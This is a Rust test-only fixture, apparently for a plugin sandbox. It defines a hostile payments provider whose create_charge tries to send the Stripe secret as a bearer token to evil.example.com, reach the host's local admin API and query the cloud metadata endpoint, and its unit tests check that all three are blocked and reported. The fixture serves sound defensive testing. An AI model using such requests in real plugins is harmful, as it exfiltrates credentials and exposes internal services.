//! `hostile-network` (test only): a payments provider whose `create-charge` tries to reach,
//! through `cairn:durable/http`, destinations no payments provider may reach, in order:
//!
//! 1. `evil`: `GET https://evil.example.com/steal` with
//!    `Authorization: Bearer {{secret:STRIPE_API_KEY}}` (exfiltrating the secret);
//! 2. `admin`: `GET http://127.0.0.1:9070/deployments` (the host's own admin API);
//! 3. `metadata`: `GET http://169.254.169.254/latest/meta-data/` (cloud instance metadata).
//!
//! It never succeeds: when every request fails it answers `unavailable` with one
//! `<which> <url>: <error>` per request, joined by `; `. Should a request get any response at
//! all, it answers a charge with id `ch_leaked_<which>` (the first that got through) instead.

use cairn_sdk::http::{HttpError, Request, RequestBuilder};

use hostile_common::{Charge, ChargeRequest, ProviderError};

hostile_common::payments_provider!(name = "hostile-network", create_charge = create_charge);

/// A forbidden destination: its name and its request.
struct Target {
    which: &'static str,
    url: &'static str,
}

/// Every destination tried, in order.
const TARGETS: [Target; 3] = [
    Target {
        which: "evil",
        url: "https://evil.example.com/steal",
    },
    Target {
        which: "admin",
        url: "http://127.0.0.1:9070/deployments",
    },
    Target {
        which: "metadata",
        url: "http://169.254.169.254/latest/meta-data/",
    },
];

/// Tries every target, in order.
fn create_charge(req: ChargeRequest) -> Result<Charge, ProviderError> {
    let attempts: Vec<(&Target, Result<u16, HttpError>)> = TARGETS
        .iter()
        .map(|target| {
            let outcome = request(target).send().map(|response| response.status());
            (target, outcome)
        })
        .collect();
    verdict(&req, &attempts)
}

/// The request sent to `target`; the first one also asks for the payments secret.
fn request(target: &Target) -> RequestBuilder {
    let builder = Request::get(target.url).timeout_ms(2_000);
    if target.which == "evil" {
        builder.bearer_auth("{{secret:STRIPE_API_KEY}}")
    } else {
        builder
    }
}

/// A leaked charge for the first request that got a response (its status), else
/// `unavailable` listing what happened to each request.
fn verdict(
    req: &ChargeRequest,
    attempts: &[(&Target, Result<u16, HttpError>)],
) -> Result<Charge, ProviderError> {
    if let Some((target, Ok(status))) = attempts.iter().find(|(_, outcome)| outcome.is_ok()) {
        return Ok(Charge {
            id: format!("ch_leaked_{}", target.which),
            amount: req.amount,
            currency: req.currency.clone(),
            status: format!("leaked (HTTP {status})"),
        });
    }
    let report: Vec<String> = attempts
        .iter()
        .map(|(target, outcome)| match outcome {
            Ok(status) => format!("{} {}: HTTP {status}", target.which, target.url),
            Err(err) => format!("{} {}: {err}", target.which, target.url),
        })
        .collect();
    Err(ProviderError::Unavailable(report.join("; ")))
}

#[cfg(test)]
mod tests {
    use hostile_common::charge_request;

    use super::*;

    #[test]
    fn every_failure_is_reported_in_order() {
        let attempts = [
            (&TARGETS[0], Err(HttpError::Denied("not allowed".into()))),
            (&TARGETS[1], Err(HttpError::Transport("refused".into()))),
            (&TARGETS[2], Err(HttpError::Timeout)),
        ];
        assert_eq!(
            verdict(&charge_request(), &attempts),
            Err(ProviderError::Unavailable(
                "evil https://evil.example.com/steal: destination denied: not allowed; \
                 admin http://127.0.0.1:9070/deployments: transport error: refused; \
                 metadata http://169.254.169.254/latest/meta-data/: timed out"
                    .into()
            ))
        );
    }

    #[test]
    fn any_response_is_a_leak() {
        let attempts = [
            (&TARGETS[0], Err(HttpError::Denied("not allowed".into()))),
            (&TARGETS[1], Ok(404)),
            (&TARGETS[2], Ok(200)),
        ];
        let charge = verdict(&charge_request(), &attempts).unwrap();
        assert_eq!(charge.id, "ch_leaked_admin");
        assert_eq!(charge.status, "leaked (HTTP 404)");
    }

    #[test]
    fn only_the_evil_request_carries_the_secret_placeholder() {
        let evil = request(&TARGETS[0]).build().unwrap();
        assert_eq!(evil.url(), "https://evil.example.com/steal");
        assert_eq!(
            evil.header("authorization"),
            Some("Bearer {{secret:STRIPE_API_KEY}}")
        );
        for target in &TARGETS[1..] {
            let other = request(target).build().unwrap();
            assert_eq!(other.url(), target.url);
            assert_eq!(other.header("authorization"), None);
        }
    }
}
